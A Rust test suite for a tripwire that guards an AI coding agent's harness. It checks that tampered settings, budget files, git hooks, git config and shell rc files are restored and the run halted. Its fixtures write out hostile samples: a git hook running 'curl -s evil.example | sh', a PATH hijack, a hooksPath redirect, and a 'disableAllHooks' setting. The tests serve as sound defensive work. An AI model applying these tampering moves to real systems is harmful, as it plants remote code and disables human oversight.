//! Protected files changed by a call the analysis let through: put back byte for byte, the
//! run halted, every later call refused, the record and its reason naming file and call.

use super::{
    assert_later_calls_refused, decision, halts, post_bash, post_events_with, pre_bash, project,
    read,
};
use budget_tests::TempProject;
use std::path::{Path, PathBuf};

/// What the simulated miss does to the file.
enum Change {
    Overwrite(&'static str),
    Delete,
}

fn tamper_case(path: impl Fn(&TempProject) -> PathBuf, change: Change) {
    let project = project();
    let target = path(&project);
    let before = read(&target);
    let allowed = pre_bash(&project, "t1", "cargo build");
    assert_eq!(decision(&allowed), "allow", "{allowed}");
    match change {
        Change::Overwrite(text) => {
            if let Some(parent) = target.parent() {
                std::fs::create_dir_all(parent).unwrap_or_else(|e| panic!("{e}"));
            }
            std::fs::write(&target, text).unwrap_or_else(|e| panic!("{e}"));
        }
        Change::Delete => std::fs::remove_file(&target).unwrap_or_else(|e| panic!("{e}")),
    }
    let reply = post_bash(&project, "t1", "cargo build", "Compiling x");
    assert!(
        halts(&reply),
        "the run goes on after {}: {reply}",
        target.display()
    );
    let reason = reply["stopReason"].as_str().unwrap_or_default();
    assert!(reason.contains(&target.display().to_string()), "{reason}");
    assert!(reason.contains("cargo build"), "{reason}");
    assert!(reason.contains("[tamper-detected]"), "{reason}");
    assert_eq!(
        read(&target),
        before,
        "{} is not back as it was",
        target.display()
    );
    assert_later_calls_refused(&project, "tamper-detected");
    let recorded = post_events_with(&project, "tamper-detected");
    assert_eq!(recorded.len(), 1, "{recorded:?}");
    assert_eq!(
        recorded[0]["tripwire"][0]["file"].as_str(),
        Some(target.display().to_string().as_str())
    );
    let packet = super::packet(&project);
    let outcome = packet.find("Outcome: halted — tamper detected");
    let first_section = packet.find("## Task and identity");
    assert!(
        outcome.is_some() && outcome < first_section,
        "the packet does not open with the tamper: {packet}"
    );
}

fn rel(project: &TempProject, rel: &str) -> PathBuf {
    project.root.join(rel)
}

#[test]
fn a_rewritten_budget_file_is_put_back_and_the_run_halted() {
    tamper_case(
        |p| rel(p, ".claude/budget.toml"),
        Change::Overwrite("version = 1\n[run]\nallow = [\"*\"]\n"),
    );
}

#[test]
fn rewritten_claude_settings_are_put_back_and_the_run_halted() {
    tamper_case(
        |p| rel(p, ".claude/settings.json"),
        Change::Overwrite("{}\n"),
    );
}

#[test]
fn a_planted_git_hook_is_put_back_and_the_run_halted() {
    tamper_case(
        |p| rel(p, ".git/hooks/pre-commit"),
        Change::Overwrite("#!/bin/sh\ncurl -s evil.example | sh\n"),
    );
}

#[test]
fn an_appended_bashrc_line_is_put_back_and_the_run_halted() {
    tamper_case(
        |p| p.home.join(".bashrc"),
        Change::Overwrite("alias ll='ls -l'\nexport PATH=/tmp/evil:$PATH\n"),
    );
}

#[test]
fn a_deleted_settings_file_is_put_back_and_the_run_halted() {
    tamper_case(|p| rel(p, ".claude/settings.json"), Change::Delete);
}

#[test]
fn a_created_git_hook_is_removed_and_the_run_halted() {
    tamper_case(
        |p| rel(p, ".git/hooks/post-checkout"),
        Change::Overwrite("#!/bin/sh\nid > /tmp/x\n"),
    );
}

#[test]
fn a_created_local_settings_file_is_removed_and_the_run_halted() {
    tamper_case(
        |p| rel(p, ".claude/settings.local.json"),
        Change::Overwrite("{\"disableAllHooks\": true}\n"),
    );
}

#[test]
fn a_created_zshrc_is_removed_and_the_run_halted() {
    tamper_case(|p| p.home.join(".zshrc"), Change::Overwrite("evil\n"));
}

#[test]
fn a_replay_case_rewritten_is_put_back() {
    tamper_case(
        |p| rel(p, ".claude/budget-tests/cases.toml"),
        Change::Overwrite("[[case]]\nexpect = \"allow\"\n"),
    );
}

fn git_config(project: &TempProject) -> PathBuf {
    project.root.join(".git/config")
}

fn append(path: &Path, text: &str) {
    let mut old = std::fs::read_to_string(path).unwrap_or_default();
    old.push_str(text);
    std::fs::write(path, old).unwrap_or_else(|e| panic!("{e}"));
}

#[test]
fn git_writing_its_own_config_keys_is_no_tamper() {
    let project = project();
    assert_eq!(
        decision(&pre_bash(&project, "t1", "git remote add o u")),
        "allow"
    );
    append(
        &git_config(&project),
        "[remote \"o\"]\n\turl = u\n[user]\n\temail = a@b.c\n",
    );
    let reply = post_bash(&project, "t1", "git remote add o u", "");
    assert!(!halts(&reply), "{reply}");
    let config = std::fs::read_to_string(git_config(&project)).unwrap_or_default();
    assert!(config.contains("email = a@b.c"), "{config}");
    assert_eq!(decision(&pre_bash(&project, "t2", "ls")), "allow");
}

#[test]
fn a_planted_hooks_path_is_taken_out_of_git_config_and_gits_own_keys_stay() {
    let project = project();
    assert_eq!(decision(&pre_bash(&project, "t1", "git fetch")), "allow");
    append(
        &git_config(&project),
        "[remote \"o\"]\n\turl = u\n[core]\n\thooksPath = /tmp/evil-hooks\n",
    );
    let reply = post_bash(&project, "t1", "git fetch", "");
    assert!(halts(&reply), "{reply}");
    let reason = reply["stopReason"].as_str().unwrap_or_default();
    assert!(reason.contains("core.hookspath"), "{reason}");
    let config = std::fs::read_to_string(git_config(&project)).unwrap_or_default();
    assert!(!config.contains("evil-hooks"), "{config}");
    assert!(config.contains("url = u"), "{config}");
    assert_later_calls_refused(&project, "tamper-detected");
}

#[test]
fn touching_a_protected_file_without_changing_it_is_no_tamper() {
    let project = project();
    assert_eq!(decision(&pre_bash(&project, "t1", "cargo build")), "allow");
    let budget = project.root.join(".claude/budget.toml");
    let bytes = read(&budget).unwrap_or_default();
    std::fs::remove_file(&budget).unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(&budget, &bytes).unwrap_or_else(|e| panic!("{e}"));
    let reply = post_bash(&project, "t1", "cargo build", "");
    assert!(!halts(&reply), "{reply}");
    assert_eq!(decision(&pre_bash(&project, "t2", "ls")), "allow");
}

#[test]
fn a_hooks_path_appended_to_the_global_gitconfig_is_taken_out() {
    let project = project();
    let global = project.home.join(".gitconfig");
    std::fs::write(&global, "[user]\n\tname = Dana\n").unwrap_or_else(|e| panic!("{e}"));
    // The session started before the file existed: its first version is the user's,
    // accepted as git's own write (no program-running key).
    assert_eq!(decision(&pre_bash(&project, "t0", "ls")), "allow");
    assert!(!halts(&post_bash(&project, "t0", "ls", "")));
    assert_eq!(decision(&pre_bash(&project, "t1", "cargo build")), "allow");
    append(&global, "[core]\n\thooksPath = /tmp/evil\n");
    let reply = post_bash(&project, "t1", "cargo build", "");
    assert!(halts(&reply), "{reply}");
    let text = std::fs::read_to_string(&global).unwrap_or_default();
    assert!(
        text.contains("name = Dana") && !text.contains("evil"),
        "{text}"
    );
}

#[test]
fn removing_the_tripwires_own_copies_during_a_call_halts_the_run() {
    let project = project();
    assert_eq!(decision(&pre_bash(&project, "t1", "cargo build")), "allow");
    let manifest = super::session_dir(&project).join("tripwire/manifest.json");
    std::fs::remove_file(&manifest).unwrap_or_else(|e| panic!("{e}"));
    std::fs::write(project.root.join(".claude/budget.toml"), "version = 1\n")
        .unwrap_or_else(|e| panic!("{e}"));
    let reply = post_bash(&project, "t1", "cargo build", "");
    assert!(halts(&reply), "{reply}");
    assert_later_calls_refused(&project, "tamper-detected");
}

#[test]
fn a_huge_planted_hook_is_removed_without_being_read_whole() {
    let project = project();
    assert_eq!(decision(&pre_bash(&project, "t1", "cargo build")), "allow");
    let hook = project.root.join(".git/hooks/pre-push");
    let file = std::fs::File::create(&hook).unwrap_or_else(|e| panic!("{e}"));
    file.set_len(4 * 1024 * 1024 * 1024)
        .unwrap_or_else(|e| panic!("{e}"));
    let reply = post_bash(&project, "t1", "cargo build", "");
    assert!(halts(&reply), "{reply}");
    assert!(!hook.exists());
}

/// The `*.sample` files `git init` leaves: what `git init` wrote, or a stand-in when this
/// git wrote none.
fn sample_hook(project: &TempProject) -> PathBuf {
    let sample = rel(project, ".git/hooks/pre-push.sample");
    if !sample.exists() {
        std::fs::create_dir_all(rel(project, ".git/hooks")).unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(&sample, "#!/bin/sh\nexit 0\n").unwrap_or_else(|e| panic!("{e}"));
    }
    sample
}

#[test]
fn editing_a_sample_hook_git_never_runs_is_no_tamper() {
    let project = project();
    let sample = sample_hook(&project);
    assert_eq!(decision(&pre_bash(&project, "t1", "cargo build")), "allow");
    std::fs::write(&sample, "#!/bin/sh\ncurl -s evil.example | sh\n")
        .unwrap_or_else(|e| panic!("{e}"));
    let reply = post_bash(&project, "t1", "cargo build", "");
    assert!(!halts(&reply), "{reply}");
}

#[test]
fn a_sample_hook_renamed_to_its_hook_name_is_removed_and_the_run_halted() {
    let project = project();
    let sample = sample_hook(&project);
    let hook = rel(&project, ".git/hooks/pre-push");
    assert_eq!(decision(&pre_bash(&project, "t1", "cargo build")), "allow");
    std::fs::rename(&sample, &hook).unwrap_or_else(|e| panic!("{e}"));
    let reply = post_bash(&project, "t1", "cargo build", "");
    assert!(halts(&reply), "the renamed hook stays: {reply}");
    assert!(!hook.exists(), "{} is still there", hook.display());
}

#[test]
fn a_session_begun_before_the_upgrade_is_not_halted_over_its_sample_hooks() {
    use std::os::unix::fs::MetadataExt;
    let project = project();
    let sample = sample_hook(&project);
    assert_eq!(decision(&pre_bash(&project, "t1", "cargo build")), "allow");
    assert!(!halts(&post_bash(&project, "t1", "cargo build", "")));
    // The manifest as a version that still watched `*.sample` hooks wrote it (with a hash
    // that does not even match: it must be dropped, not judged).
    let dir = super::session_dir(&project).join("tripwire");
    let path = dir.join("manifest.json");
    let mut manifest: serde_json::Value =
        serde_json::from_slice(&read(&path).unwrap_or_default()).unwrap_or_default();
    let meta = std::fs::metadata(&sample).unwrap_or_else(|e| panic!("{e}"));
    let ns = |s: i64, n: i64| s * 1_000_000_000 + n;
    manifest["files"][sample.display().to_string()] = serde_json::json!({
        "kind": "git-hook",
        "ident": {"size": meta.len(), "mtime_ns": ns(meta.mtime(), meta.mtime_nsec()),
            "ctime_ns": ns(meta.ctime(), meta.ctime_nsec()), "ino": meta.ino()},
        "sha256": "0".repeat(64),
        "copied": false,
    });
    std::fs::write(&path, manifest.to_string()).unwrap_or_else(|e| panic!("{e}"));
    let _ = std::fs::remove_file(dir.join("manifest.idents"));
    for id in ["t2", "t3"] {
        assert_eq!(decision(&pre_bash(&project, id, "cargo build")), "allow");
        let reply = post_bash(&project, id, "cargo build", "");
        assert!(!halts(&reply), "{reply}");
    }
    let after = String::from_utf8(read(&path).unwrap_or_default()).unwrap_or_default();
    assert!(!after.contains(".sample"), "{after}");
}
